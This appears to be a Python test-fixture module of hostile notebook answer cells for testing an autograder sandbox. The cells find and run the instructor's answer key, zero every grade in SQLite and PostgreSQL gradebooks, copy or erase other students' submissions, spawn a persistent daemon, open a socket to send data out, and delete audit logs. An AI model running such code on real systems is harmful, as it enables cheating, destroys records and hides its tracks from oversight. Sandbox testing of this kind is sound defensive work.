"""Hostile answer cells, written as a student who read the README would write them.

Each constant is the source of one answer cell. They know the course layout
(``solutions/`` is the source, everything the grader makes is under
``autograder/``, the gradebook is ``autograder/gradebook.db`` or the URL in
``NBGRADER_DB_URL``) and search for it from the kernel's working directory
upwards, then over the whole file system they can see. Every attack swallows
its own errors, so a sandboxed attempt leaves a blank (or honest) answer.
"""

from __future__ import annotations

# Walk up to the course root and search the visible file system (pruned, to stay inside a 5 s cell).
_FIND = '''
import json, os
from pathlib import Path

def _candidates(patterns, walk=True):
    here = Path.cwd().resolve()
    found = False
    for folder in [here, *here.parents]:
        for pattern in patterns:
            try:
                for path in folder.glob(pattern):
                    found = True
                    yield path
            except OSError:
                pass
    if found or not walk:
        return
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".pyenv", "lib",
                                                 "include", "share", "etc", "node_modules", ".git")]
        for name in files:
            path = Path(top, name)
            if any(path.match(p) for p in patterns):
                yield path
'''

#: The issue's first attack: a blank submission that runs the answer key after every cell.
ANSWER_KEY = _FIND + '''
_key = next(iter(_candidates(["solutions/ex01-*/ex01-*.ipynb", "*/solutions/ex01-*/ex01-*.ipynb",
                             "source/ex01-*/ex01-*.ipynb"])), None)
if _key is not None:
    _cells = ["".join(c["source"]) for c in json.loads(_key.read_text())["cells"]
              if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("solution")]
    _ip = get_ipython()

    def _answer_key(result=None):
        for code in _cells:  # one at a time: a cell that needs a later instructor cell must not stop the others
            try:
                exec(code, _ip.user_ns)
            except Exception:
                pass

    _ip.events.register("post_run_cell", _answer_key)
    _answer_key()
'''

_ZERO_SQLITE = '''
def _zero_gradebooks():
    import sqlite3
    books = set(_candidates(["gradebook.db", "autograder/gradebook.db", "*.db"]))
    url = os.environ.get("NBGRADER_DB_URL", "")
    if url.startswith("sqlite:///"):
        books.add(Path(url[len("sqlite:///"):].split("?")[0]))
    hits = 0
    for book in books:
        try:
            con = sqlite3.connect(str(book), timeout=30)
            hits += con.execute("update grade set auto_score = 0").rowcount
            con.commit()
            con.close()
        except Exception:
            pass
    return hits
'''

#: The issue's second attack: zero every grade in the SQLite gradebook above the working directory.
GRADEBOOK_SQLITE = _FIND + _ZERO_SQLITE + "_zero_gradebooks()\n"

#: The same against PostgreSQL: the URL from the environment, else any PostgreSQL socket it can find.
GRADEBOOK_POSTGRES = _FIND + '''
def _zero_postgres():
    import glob
    import psycopg
    targets = []
    url = os.environ.get("NBGRADER_DB_URL", "")
    if url.startswith("postgresql"):
        targets.append(url.replace("postgresql+psycopg://", "postgresql://"))
    for sock in glob.glob("/tmp/*/sock/.s.PGSQL.*") + glob.glob("/var/run/postgresql/.s.PGSQL.*"):
        targets.append(f"postgresql://postgres@/gradebook?host={os.path.dirname(sock)}")
    for target in targets:
        try:
            with psycopg.connect(target, connect_timeout=2) as con:
                con.execute("update grade set auto_score = 0")
        except Exception:
            pass

_zero_postgres()
'''

#: Read the notebooks other students submitted (or that were autograded) and run their answers.
READ_OTHERS = _FIND + '''
_theirs = None
for _nb in _candidates(["autograder/submitted/*/ex01-*/*.ipynb", "autograder/autograded/*/ex01-*/*.ipynb",
                        "submitted/*/ex01-*/*.ipynb", "autograded/*/ex01-*/*.ipynb"]):
    try:
        _cells = json.loads(_nb.read_text())["cells"]
    except Exception:
        continue
    _answers = ["".join(c["source"]) for c in _cells
                if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("solution")]
    if _answers and not any("NotImplementedError" in a or "_candidates" in a for a in _answers):
        _theirs = _answers
        break
for _answer in _theirs or []:
    exec(_answer)
'''

#: Overwrite every other student's submitted and autograded notebook with an empty one.
OVERWRITE_OTHERS = _FIND + '''
for _nb in list(_candidates(["autograder/submitted/*/ex01-*/*.ipynb", "autograder/autograded/*/ex01-*/*.ipynb",
                             "submitted/*/ex01-*/*.ipynb", "autograded/*/ex01-*/*.ipynb"])):
    if "h-overwriter" not in str(_nb):
        try:
            _nb.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except Exception:
            pass
'''

#: A double-forked daemon that keeps zeroing the gradebook for a minute after the notebook ends.
DOUBLE_FORK = _FIND + _ZERO_SQLITE + '''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            try:
                _zero_gradebooks()
            except Exception:
                pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
'''

#: Send the answers out to a server on the loopback address (PORT is filled in by the test).
CONNECT = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as _s:
        _s.sendall(b"hello from the sandbox")
except OSError:
    pass
'''

#: Having read that an audit hook logs attempts: remove the logs, then try the gradebook.
HIDE_TRACKS = _FIND + _ZERO_SQLITE + """
import glob
for _log in glob.glob("/var/tmp/*/run/audit-*.log") + glob.glob("/tmp/**/audit-*.log", recursive=True):
    try:
        os.remove(_log)
    except OSError:
        pass
_zero_gradebooks()
"""
